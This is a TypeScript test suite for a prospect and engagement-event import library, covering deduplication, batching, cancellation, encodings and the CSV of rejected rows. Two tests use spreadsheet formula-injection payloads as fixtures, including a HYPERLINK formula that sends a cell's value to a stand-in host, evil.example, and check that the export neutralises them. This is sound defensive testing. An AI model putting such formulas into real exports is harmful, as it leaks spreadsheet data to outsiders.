import { importFile, ImportFormatError, importText, rejectedRowsCsv, rowReason, type ImportProgress } from '@/lib/import';
import { problem } from '@/lib/import/reasons';
import { nearest } from '@/lib/import/rows';
import { MAX_RECORD_CHARS, RECORD_TOO_LONG } from '@/lib/import/text-chunks';
import { ENGAGEMENT_TYPES } from '@/lib/model/engagement';
import { closeDbForTests } from '@/lib/store/db';
import { countEvents } from '@/lib/store/events';
import { getProspect } from '@/lib/store/prospects';
import { allEvents, allProspects, csv } from './helpers';

afterEach(closeDbForTests);

const HEADER = ['email', 'name', 'lead_score', 'event_type', 'occurred_at', 'event_title'];

/** `n` event rows over `people` prospects, each row distinct. */
function eventRows(n: number, people = 50): string[][] {
  return Array.from({ length: n }, (_, i) => [
    `person${i % people}@example.com`,
    `Person ${i % people}`,
    String(i % people),
    i % 3 ? 'email_open' : 'page_view',
    new Date(Date.UTC(2026, 0, 1) + i * 60_000).toISOString(),
    `Event ${i}`,
  ]);
}

describe('counting', () => {
  it('skips a repeat within one file, and everything when the file comes again', async () => {
    const row = ['dana@northwind.example', 'Dana', '87', 'email_open', '2026-11-01T09:00:00Z', 'Nurture #1'];
    const text = csv([HEADER, row, row, ['DANA@northwind.example', 'Dana', '87', 'email_open', '2026-11-01T10:00:00+01:00', 'Nurture #1']]);
    expect(await importText(text, 'a.csv')).toMatchObject({ recordsRead: 3, imported: 1, skipped: 2, rejected: 0 });
    expect(await importText(text, 'a.csv')).toMatchObject({ recordsRead: 3, imported: 0, skipped: 3, rejected: 0 });
    expect(await countEvents()).toBe(1);
  });

  it('counts a row without an event as imported only when it creates or changes the person', async () => {
    const first = csv([
      HEADER,
      ['li@contoso.example', 'Li Wei', '', '', '', ''], // creates Li
      ['li@contoso.example', 'Li Wei', '', '', '', ''], // same again
      ['li@contoso.example', '', '54', '', '', ''], // adds a score
      ['li@contoso.example', 'Li Wei', '', '', '', ''], // nothing new (empty cells never erase)
    ]);
    expect(await importText(first, 'people.csv')).toMatchObject({ imported: 2, skipped: 2, prospectsUpserted: 1 });
    expect(await getProspect('li@contoso.example')).toMatchObject({ name: 'Li Wei', leadScore: 54 });

    const later = csv([HEADER, ['li@contoso.example', 'Li Wei', '60', '', '', '']]);
    expect(await importText(later, 'people-2.csv')).toMatchObject({ imported: 1, skipped: 0 });
    expect((await getProspect('li@contoso.example'))?.leadScore).toBe(60);
    expect(await importText(later, 'people-2.csv')).toMatchObject({ imported: 0, skipped: 1 });
  });

  it('counts the same way whatever the batch size', async () => {
    const rows = eventRows(40, 7);
    const text = csv([HEADER, ...rows, ...rows.slice(0, 10), ['nobody', '', '', '', '', '']]);
    const summaries = [];
    for (const batchSize of [1, 3, 16, 1000]) {
      globalThis.indexedDB = new IDBFactory();
      await closeDbForTests();
      const { imported, skipped, rejected, recordsRead } = await importText(text, 'x.csv', { batchSize });
      summaries.push({ imported, skipped, rejected, recordsRead });
    }
    expect(new Set(summaries.map((s) => JSON.stringify(s))).size).toBe(1);
    expect(summaries[0]).toEqual({ imported: 40, skipped: 10, rejected: 1, recordsRead: 51 });
  });
});

describe('origin', () => {
  it('stamps events and new prospects with import:<file name>, or the origin given', async () => {
    await importFile(new File([csv([HEADER, eventRows(1)[0]!])], 'crm-export.csv'));
    expect((await allEvents())[0]?.origin).toBe('import:crm-export.csv');
    expect((await allProspects())[0]?.origin).toBe('import:crm-export.csv');
    await importText(csv([HEADER, ['new@example.com', 'New', '', 'email_open', '2026-01-01', 'x']]), 'ignored.csv', { origin: 'demo' });
    expect((await getProspect('new@example.com'))?.origin).toBe('demo');
  });
});

describe('progress and cancelling', () => {
  it('reports progress after every batch, with the counts adding up each time', async () => {
    const text = csv([HEADER, ...eventRows(1000)]);
    const reports: ImportProgress[] = [];
    await importText(text, 'p.csv', { batchSize: 100, onProgress: (p) => reports.push(p) });
    expect(reports.length).toBeGreaterThanOrEqual(10);
    for (const [i, r] of reports.entries()) {
      expect(r.imported + r.skipped + r.rejected).toBe(r.recordsRead);
      expect(r.totalBytes).toBe(text.length);
      if (i > 0) expect(r.recordsRead).toBeGreaterThanOrEqual(reports[i - 1]!.recordsRead);
    }
    expect(reports.at(-1)).toMatchObject({ bytesRead: text.length, recordsRead: 1000, imported: 1000 });
  });

  it('leaves whole batches when cancelled, and a second run completes it without duplicates', async () => {
    const text = csv([HEADER, ...eventRows(2000)]);
    const controller = new AbortController();
    const cancelled = await importText(text, 'big.csv', {
      batchSize: 250,
      signal: controller.signal,
      onProgress: (p) => p.recordsRead >= 750 && controller.abort(),
    });
    expect(cancelled).toMatchObject({ cancelled: true, recordsRead: 750, imported: 750 });
    expect(await countEvents()).toBe(750);
    // No event without its prospect.
    const keys = new Set((await allProspects()).map((p) => p.key));
    expect((await allEvents()).every((e) => keys.has(e.prospectKey))).toBe(true);

    const completed = await importText(text, 'big.csv', { batchSize: 250 });
    expect(completed).toMatchObject({ cancelled: false, recordsRead: 2000, imported: 1250, skipped: 750, rejected: 0 });
    expect(await countEvents()).toBe(2000);
  });

  it('says cancelled when Cancel comes while the last batch waits for the one before it (r6 #2)', async () => {
    // 5 records, batches of 4: the first report (batch 1 written) is when the progress reaches the
    // end, and the rep cancels then. The last record was never written: the summary must not say done.
    const text = csv([HEADER, ...eventRows(5)]);
    const controller = new AbortController();
    const summary = await importText(text, 'late-cancel.csv', { batchSize: 4, signal: controller.signal, onProgress: () => controller.abort() });
    expect(summary).toMatchObject({ cancelled: true, recordsRead: 4, imported: 4 });
    expect(await countEvents()).toBe(4);
  });

  it('gives the page a turn between batches', async () => {
    let ticks = 0;
    const timer = setInterval(() => ticks++, 0);
    await importText(csv([HEADER, ...eventRows(600)]), 't.csv', { batchSize: 100 });
    clearInterval(timer);
    expect(ticks).toBeGreaterThan(0);
  });
});

describe('files that are not imports', () => {
  it('refuses an empty file and a header it does not know', async () => {
    await expect(importText('', 'empty.csv')).rejects.toThrow(ImportFormatError);
    await expect(importText('\uFEFF\n\n', 'blank.csv')).rejects.toThrow(ImportFormatError);
    await expect(importText('foo,bar\n1,2\n', 'other.csv')).rejects.toMatchObject({ problems: [problem('importFormat_unknown')] });
    expect(await countEvents()).toBe(0);
  });

  it('reads a header-only file as nothing to import', async () => {
    expect(await importText('email,event_type\n', 'h.csv')).toMatchObject({ format: 'canonical-csv', recordsRead: 0, imported: 0 });
  });
});

describe('a header that names a column twice', () => {
  it('takes the first value that is not empty, and lists the column', async () => {
    const text = 'email,name,event_type,occurred_at,Email,notes,notes\ndana@northwind.example,Dana,email_open,2025-11-10T09:00:00Z,,a,b\n,Lee,email_open,2025-11-10T09:00:00Z,lee@contoso.example,,\n';
    const summary = await importText(text, 'merged.csv');
    expect(summary).toMatchObject({ imported: 2, rejected: 0, repeatedColumns: ['email'], unknownColumns: ['notes'] });
    expect(await getProspect('lee@contoso.example')).toMatchObject({ name: 'Lee' });
  });

  it('says nothing of repeats in a file without them', async () => {
    expect(await importText('email,event_type\na@x.example,\n', 'plain.csv')).not.toHaveProperty('repeatedColumns');
  });
});

describe('a file saved by Excel on Windows (windows-1252, not UTF-8)', () => {
  it('keeps accented names as they were written', async () => {
    const text = 'email,name,company\r\njose@acme.example,José Müller,Société Générale\r\n';
    const bytes = Uint8Array.from(text, (c) => c.charCodeAt(0));
    expect(await importFile(new File([bytes], 'contacts.csv'))).toMatchObject({ imported: 1, rejected: 0 });
    expect(await getProspect('jose@acme.example')).toMatchObject({ name: 'José Müller', company: 'Société Générale' });
  });
});

describe('a lead score too large to keep exactly', () => {
  it('is rejected with its reason, where a smaller one is kept: stored, it would have been another number, and its export could not be restored', async () => {
    const file = ['email,lead_score', 'big@x.example,12345678901234567', 'fine@x.example,9007199254740991', 'huge@x.example,' + '9'.repeat(400)].join('\n');
    const summary = await importText(file, 'scores.csv');
    expect(summary).toMatchObject({ imported: 1, rejected: 2 });
    expect(summary.rejectedRows.map((r) => [r.line, r.problems.map((p) => p.key)])).toEqual([
      [2, ['importReason_numberTooLarge']],
      [4, ['importReason_numberTooLarge']],
    ]);
    expect(rowReason(summary.rejectedRows[0]!)).toBe("lead_score '12345678901234567' is too large a number to keep exactly");
    expect(await getProspect('fine@x.example')).toMatchObject({ leadScore: 9007199254740991 });
  });
});

describe('rejectedRowsCsv', () => {
  it("writes the file's own columns, then every problem of the row and its line, quoting what needs it", () => {
    const text = rejectedRowsCsv({
      rejectedRows: [
        { line: 7, problems: [problem('importReason_notDate', 'occurred_at', 'yesterday')], values: { email: 'a@x.example', occurred_at: 'yesterday' } },
        {
          line: 9,
          problems: [problem('importReason_eventType', 'foo'), problem('importReason_notNumber', 'lead_score', 'x')],
          values: { email: 'b@x.example', occurred_at: '2026-11-01, 9:00' },
        },
        { line: 11, problems: [problem('importReason_unclosedQuote')] },
      ],
    });
    expect(text).toBe(
      'email,occurred_at,reason,line\r\n' +
        "a@x.example,yesterday,occurred_at 'yesterday' is not a date,7\r\n" +
        "b@x.example,\"2026-11-01, 9:00\",event_type 'foo' is not an event type (the README lists them); lead_score 'x' is not a number,9\r\n" +
        ',,a quoted value is never closed,11\r\n',
    );
  });

  it('neutralises spreadsheet formulas in a reason, as the exports do', () => {
    const text = rejectedRowsCsv({ rejectedRows: [{ line: 3, problems: [problem('importReason_notSingleValue', '=HYPERLINK("https://evil.example","click")')] }] });
    expect(text).toBe('reason,line\r\n"\'=HYPERLINK(""https://evil.example"",""click"") is not a single value",3\r\n');
  });

  it('neutralises a formula that came from the imported file itself (a JSON key quoted in the reason, and as a column)', async () => {
    const key = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
    const summary = await importText(JSON.stringify([{ email: 'a@x.example', [key]: { x: 1 } }]), 'hostile.json');
    expect(summary.rejectedRows).toEqual([{ line: 1, problems: [problem('importReason_notSingleValue', key)], values: { email: 'a@x.example', [key]: '{"x":1}' } }]);
    const lines = rejectedRowsCsv(summary).split('\r\n');
    expect(lines[0]).toMatch(/^email,"'=HYPERLINK/);
    expect(lines[1]).toMatch(/^a@x\.example,"\{""x"":1\}","'=HYPERLINK/);
  });

  it('a fixed download imports again: the two added columns are only reported as not imported', async () => {
    const file = ['email,event_type,occurred_at', 'a@x.example,emial_open,2026-11-01', 'b@x.example,email_click,tomorrow-ish'].join('\n');
    const first = await importText(file, 'typos.csv');
    expect(first.rejected).toBe(2);
    const fixed = rejectedRowsCsv(first).replace('emial_open', 'email_open').replace('tomorrow-ish', '2026-11-02');
    const again = await importText(fixed, 'fixed.csv');
    expect(again).toMatchObject({ imported: 2, rejected: 0, unknownColumns: ['reason', 'line'] });
  });

  it('a fixed download imports again with values that start like a formula as they were (-5, -20%)', async () => {
    const first = await importText('email,lead_score,event_type,occurred_at,event_title\ndana@northwind.example,-5,email_open,yesterday,-20% for early birds\n', 'a.csv');
    expect(first.rejectedRows[0]?.values).toMatchObject({ lead_score: '-5', event_title: '-20% for early birds' });
    const download = rejectedRowsCsv(first);
    expect(download).toContain("'-20% for early birds");
    const again = await importText(download.replace('yesterday', '2025-11-10T09:00:00Z'), 'a-fixed.csv');
    expect(again).toMatchObject({ imported: 1, rejected: 0 });
    expect(await getProspect('dana@northwind.example')).toMatchObject({ leadScore: -5 });
    expect((await allEvents())[0]).toMatchObject({ title: '-20% for early birds' });
  });
});

describe('every problem of a row, and what a mistyped event type meant', () => {
  it('names every problem of the row, in column order, not only the first', async () => {
    const file = ['email,lead_score,event_type,occurred_at', 'not-an-email,seventy,emial_open,yesterday'].join('\n');
    const summary = await importText(file, 'bad.csv');
    expect(rowReason(summary.rejectedRows[0]!)).toBe(
      "email 'not-an-email' is not an email address; lead_score 'seventy' is not a number; " +
        "event_type 'emial_open' is not an event type; did you mean 'email_open'?; occurred_at 'yesterday' is not a date",
    );
  });

  it.each([
    ['emial_open', 'email_open'],
    ['Email Open', 'email_open'],
    ['webinar', undefined], // two types contain it: no guess
    ['pageview', 'page_view'],
    ['unsubscribed', 'unsubscribe'],
    ['download', 'content_download'],
    ['foo', undefined],
  ])('%s → %s', (typed, meant) => {
    expect(nearest(typed, ENGAGEMENT_TYPES)).toBe(meant);
  });

  it('HubSpot and Mautic rows name every problem too', async () => {
    const hubspot = ['Record ID,First Name,Email,HubSpot Score,Last Marketing Email Open Date', '1,Ana,ana@x.example,high,someday'].join('\n');
    expect(rowReason((await importText(hubspot, 'hubspot.csv')).rejectedRows[0]!)).toBe(
      "HubSpot Score 'high' is not a number; Last Marketing Email Open Date 'someday' is not a date",
    );
    const mautic = ['id,firstname,lastname,email,points,last_active,date_identified', '2,Bo,Li,bad,many,never,2026-01-01'].join('\n');
    expect(rowReason((await importText(mautic, 'mautic.csv')).rejectedRows[0]!)).toBe(
      "email 'bad' is not an email address; points 'many' is not a number; last_active 'never' is not a date",
    );
  });
});

describe('the record size limit', () => {
  it('rejects a JSON or NDJSON record over 1 MB with its line, and imports the rest', async () => {
    const long = JSON.stringify({ email: 'big@x.example', event_type: 'other', event_title: 'x'.repeat(MAX_RECORD_CHARS) });
    const small = (n: number) => JSON.stringify({ email: `p${n}@x.example`, event_type: 'email_open', occurred_at: '2026-11-01T09:00:00Z', event_title: `E${n}` });
    for (const [name, text] of [
      ['big.ndjson', [small(1), long, small(2)].join('\n')],
      ['big.json', `[${small(1)},\n${long},\n${small(2)}]`],
    ] as const) {
      const summary = await importText(text, name);
      expect(summary).toMatchObject({ recordsRead: 3, rejected: 1, rejectedRows: [{ line: 2, problems: [RECORD_TOO_LONG] }] });
      expect(summary.imported + summary.skipped).toBe(2);
    }
    expect(await countEvents()).toBe(2);
  });
});

describe('a large file', () => {
  // ~5 MB through the whole import. fake-indexeddb writes far slower than a browser's IndexedDB, so a
  // 50 MB file through the store would take minutes here; streams.test.ts reads 50 MB through the parser.
  it('streams a 5 MB CSV through in batches, every row counted', async () => {
    const filler = 'x'.repeat(200);
    const rows = eventRows(20_000, 2_000).map((r) => [...r.slice(0, 5), `${r[5]} ${filler}`]);
    const file = new File([csv([HEADER, ...rows])], 'large.csv');
    expect(file.size).toBeGreaterThan(5_000_000);
    const reports: ImportProgress[] = [];
    const summary = await importFile(file, { onProgress: (p) => reports.push(p) });
    expect(summary).toMatchObject({ recordsRead: 20_000, imported: 20_000, skipped: 0, rejected: 0, prospectsUpserted: 2_000 });
    expect(await countEvents()).toBe(20_000);
    // Read piece by piece: progress moved through the file, not in one jump at the end.
    const partial = reports.filter((r) => r.bytesRead < file.size);
    expect(partial.length).toBeGreaterThan(5);
  });
});
